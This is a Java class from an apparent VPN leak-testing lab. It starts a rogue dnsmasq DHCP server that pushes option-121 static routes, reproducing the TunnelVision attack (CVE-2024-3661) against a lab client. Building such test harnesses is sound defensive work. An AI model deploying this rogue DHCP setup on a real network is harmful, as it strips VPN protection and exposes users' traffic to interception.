package org.ksaudit.lab;

import java.math.BigInteger;
import java.util.List;
import java.util.stream.Collectors;
import org.ksaudit.model.value.Cidr;
import org.ksaudit.model.value.IpText;

/**
 * The attacker's DHCP server on the LAN (TunnelVision, CVE-2024-3661): dnsmasq in the router
 * namespace, offering the client its own address with classless static routes (option 121)
 * through the router. {@code port=0}: no DNS, so no resolver option reaches the client;
 * {@code no-ping}: the offer goes out at once instead of after a ping check.
 */
final class RogueDhcpServer implements AutoCloseable {
  private final LabProcess process;

  private RogueDhcpServer(LabProcess process) {
    this.process = process;
  }

  /** Starts dnsmasq on the router's LAN side, pushing each of {@code routes} (CIDRs) via the router. */
  static RogueDhcpServer start(Lab lab, List<String> routes) throws LabException {
    LabPlan p = lab.plan();
    String conf = "port=0\n"
        + "interface=" + Lab.routerSide(0) + "\n"
        + "bind-interfaces\n"
        + "no-ping\n"
        + "dhcp-authoritative\n"
        + "dhcp-range=" + p.client4() + "," + p.client4() + "," + netmask(p.lan4()) + ",1h\n"
        + "dhcp-option=121," + routes.stream().map(r -> r + "," + p.router4()).collect(Collectors.joining(",")) + "\n"
        + "dhcp-leasefile=" + lab.scratch().resolve("dnsmasq.leases") + "\n"
        + "pid-file=" + lab.scratch().resolve("dnsmasq.pid") + "\n"
        + "user=root\n"
        + "log-dhcp\n";
    String file = lab.scratch().write("dnsmasq.conf", conf).toString();
    LabProcess d = lab.start("dnsmasq", lab.router(), List.of("dnsmasq", "--keep-in-foreground", "--log-facility=-", "-C", file));
    if (!d.awaitLog(l -> l.contains("DHCP, IP range"), 10_000)) {
      d.kill();
      throw new LabException("the rogue DHCP server (dnsmasq) did not start: " + d.logTail(5));
    }
    return new RogueDhcpServer(d);
  }

  private static String netmask(Cidr lan) {
    BigInteger all = BigInteger.ONE.shiftLeft(32).subtract(BigInteger.ONE);
    BigInteger mask = all.shiftRight(lan.prefix()).xor(all);
    return IpText.format(lan.family(), mask);
  }

  @Override
  public void close() {
    process.close();
  }
}
